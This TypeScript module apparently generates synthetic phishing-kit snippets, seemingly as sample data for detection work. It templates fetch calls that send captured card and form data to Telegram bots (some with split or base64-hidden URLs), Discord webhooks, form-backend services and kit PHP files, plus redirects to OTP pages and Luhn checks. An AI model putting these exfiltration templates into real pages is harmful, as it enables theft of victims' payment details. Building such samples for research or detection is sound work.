import type { Chance } from '../make/chance.ts'
import { elsewhere } from '../make/kits/drops.ts'
import type { Scene } from './scene.ts'

const token = (chance: Chance) => `${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, '-')}`

/** A kit's own file that takes what is entered. */
export const takerOf = (chance: Chance): string =>
  chance.of([
    'send.php',
    'post.php',
    'action.php',
    'submit.php',
    'card.php',
    'inc/process.php',
    'system/send_card.php',
    'php/save.php',
    './actions/step2.php',
    'next.php',
    'mail.php',
    `${chance.letters(2)}/post1.php`,
  ])

/** An expression that sends the object `what`, and is a promise. */
export type Sink = (what: string, chance: Chance) => string

const lines = (what: string, chance: Chance) =>
  chance.of([
    `Object.entries(${what}).map(function(p){return p[0]+": "+p[1]}).join("\\n")`,
    `"[+] "+location.hostname+"\\n"+Object.keys(${what}).map(k=>k+" = "+${what}[k]).join("\\n")`,
    `JSON.stringify(${what},null,2)`,
  ])

const bot: Sink = (what, chance) => {
  const key = token(chance)
  const chat = chance.of([chance.digits(10), `-100${chance.digits(10)}`, `-${chance.digits(9)}`])
  const address = chance.of([
    `"https://api.telegram.org/bot${key}/sendMessage"`,
    `"https://api.telegram.org/bot${key}/sendMessage"`,
    `["https://api.tele","gram.org/bot","${key}","/sendMessage"].join("")`,
    `atob("${Buffer.from(`https://api.telegram.org/bot${key}/sendMessage`).toString('base64')}")`,
  ])
  const text = lines(what, chance)
  return chance.of([
    `fetch(${address},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chat}",text:${text}})})`,
    `fetch(${address}+"?chat_id=${chat}&text="+encodeURIComponent(${text}))`,
  ])
}

const hook: Sink = (what, chance) =>
  `fetch("https://${chance.of(['discord.com', 'discordapp.com'])}/api/webhooks/${chance.digits(19)}/${chance.base64(68).replace(/[+/]/g, '_')}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({username:"${chance.of(['log', 'new', 'toll', 'cc'])}",content:${lines(what, chance)}})})`

const backend: Sink = (what, chance) =>
  chance.of([
    `fetch("https://formspree.io/f/${chance.letters(8)}",{method:"POST",headers:{Accept:"application/json","Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("https://api.web3forms.com/submit",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(Object.assign({access_key:"${chance.hex(8)}-${chance.hex(4)}-4${chance.hex(3)}-a${chance.hex(3)}-${chance.hex(12)}"},${what}))})`,
    `fetch("https://formsubmit.co/ajax/${chance.hex(32)}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("https://script.google.com/macros/s/AKfycb${chance.base64(50).replace(/[+/]/g, '_')}/exec",{method:"POST",mode:"no-cors",body:new URLSearchParams(${what})})`,
    `fetch("https://${chance.name(3)}-${chance.hex(5)}-default-rtdb.firebaseio.com/${chance.of(['cards', 'users', 'data'])}.json",{method:"POST",body:JSON.stringify(${what})})`,
  ])

const own: Sink = (what, chance) =>
  chance.of([
    `fetch("${takerOf(chance)}",{method:"POST",body:new URLSearchParams(${what})})`,
    `fetch("${chance.of(['/api/submit', 'api/card', '/api/v1/order/pay', './api/info', '/index/pay'])}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${what})})`,
    `fetch("${elsewhere(chance)}",{method:"POST",mode:"no-cors",body:JSON.stringify(${what})})`,
  ])

export const farSink: Sink = (what, chance) =>
  chance.of([bot, bot, bot, backend, backend, hook])(what, chance)
export const anySink: Sink = (what, chance) => chance.of([own, own, own, bot, backend])(what, chance)

/** Code that runs after the data is sent; `says` is the id of the element for its message. */
export function endOf(scene: Scene, says: string, chance: Chance): string {
  const wait = JSON.stringify(scene.labels.wait)
  const failed = JSON.stringify(scene.labels.failed)
  const seconds = 1500 + chance.below(40) * 100
  return chance.of([
    `location.href="${scene.body.home}"`,
    `document.getElementById("${says}").textContent=${wait};setTimeout(function(){location.replace("${scene.body.home}")},${seconds})`,
    `document.getElementById("${says}").textContent=${failed}`,
    `document.getElementById("${says}").textContent=${wait};setTimeout(function(){window.location="${chance.of(['sms.html', 'otp.php', 'code.html', 'loading.php', 'wait.html', 'success.html'])}"},${seconds})`,
  ])
}

/** Code that checks or spaces the card's number, as `input` names it; most kits have some. */
export function cardCode(name: string, chance: Chance): string {
  const found = `document.querySelector('[name="${name}"]')`
  return chance.of([
    '',
    `(function(){var c=${found};if(c)c.addEventListener("input",function(){this.value=this.value.replace(/\\D/g,"").replace(/(.{4})/g,"$1 ").trim()})})();`,
    `function luhn(v){v=v.replace(/\\D/g,"");for(var s=0,i=0;i<v.length;i++){var d=+v[v.length-1-i];if(i%2){d*=2;if(d>9)d-=9}s+=d}return v.length>12&&s%10===0}
(function(){var c=${found};if(c)c.addEventListener("blur",function(){c.style.borderColor=luhn(c.value)?"":"red"})})();`,
  ])
}
